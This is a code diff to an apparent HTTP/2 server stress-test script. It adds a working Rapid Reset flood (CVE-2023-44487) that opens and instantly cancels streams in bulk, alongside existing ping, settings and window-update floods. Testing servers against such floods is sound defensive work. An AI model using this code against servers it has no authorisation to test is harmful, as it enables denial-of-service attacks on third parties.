@@ -33,12 +33,26 @@ def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
 # :authority "a", literal), for the floods that need an open stream.
 _OPEN_STREAM_1 = frame(0x1, 0x4, 1, bytes((0x82, 0x84, 0x86, 0x41, 0x01)) + b"a")
 
+# A GET from HPACK's static table with a literal :authority, never indexed: the same bytes
+# open any stream without touching the dynamic table.
+_GET = bytes((0x82, 0x84, 0x86, 0x01, 0x01)) + b"a"
+
+
+def rapid_resets(first: int, count: int) -> bytes:
+    """Streams opened and reset at once (CVE-2023-44487), from stream id `first` on."""
+    return b"".join(
+        frame(0x1, 0x5, stream_id, _GET) + frame(0x3, 0, stream_id, struct.pack(">I", 8))
+        for stream_id in range(first, first + 2 * count, 2)
+    )
+
+
 FLOODS = {
     "ping": (b"", frame(0x6, 0, 0, b"12345678")),
     "settings": (b"", frame(0x4, 0, 0, struct.pack(">HI", 0x4, 65535))),
     "priority": (b"", frame(0x2, 0, 3, struct.pack(">IB", 0, 16))),
     "window_update": (b"", frame(0x8, 0, 0, struct.pack(">I", 1))),
     "empty_data": (_OPEN_STREAM_1, frame(0x0, 0, 1)),
+    "rapid_reset": (b"", b""),  # made per blob: stream ids must grow
 }
 
 
@@ -88,8 +102,8 @@ def main() -> None:
         context = ssl.create_default_context(cafile=args.tls)
         context.set_alpn_protocols(["h2"])
     opening, flood = FLOODS[args.kind]
-    blob = flood * (65536 // len(flood))
-    per_blob = 65536 // len(flood)
+    per_blob = 65536 // max(1, len(flood))
+    blob = flood * per_blob
     deadline = time.monotonic() + args.seconds
     connections = frames = 0
     goaways: list[int] = []
@@ -110,7 +124,12 @@ def main() -> None:
         try:
             sock.sendall(opening)
             sock.settimeout(max(0.1, deadline - time.monotonic()))
+            stream_id = 1
             while time.monotonic() < deadline:
+                if args.kind == "rapid_reset":
+                    blob = rapid_resets(stream_id, 100)
+                    stream_id += 200
+                    per_blob = 200
                 sock.sendall(blob)
                 frames += per_blob
         except (OSError, ValueError):
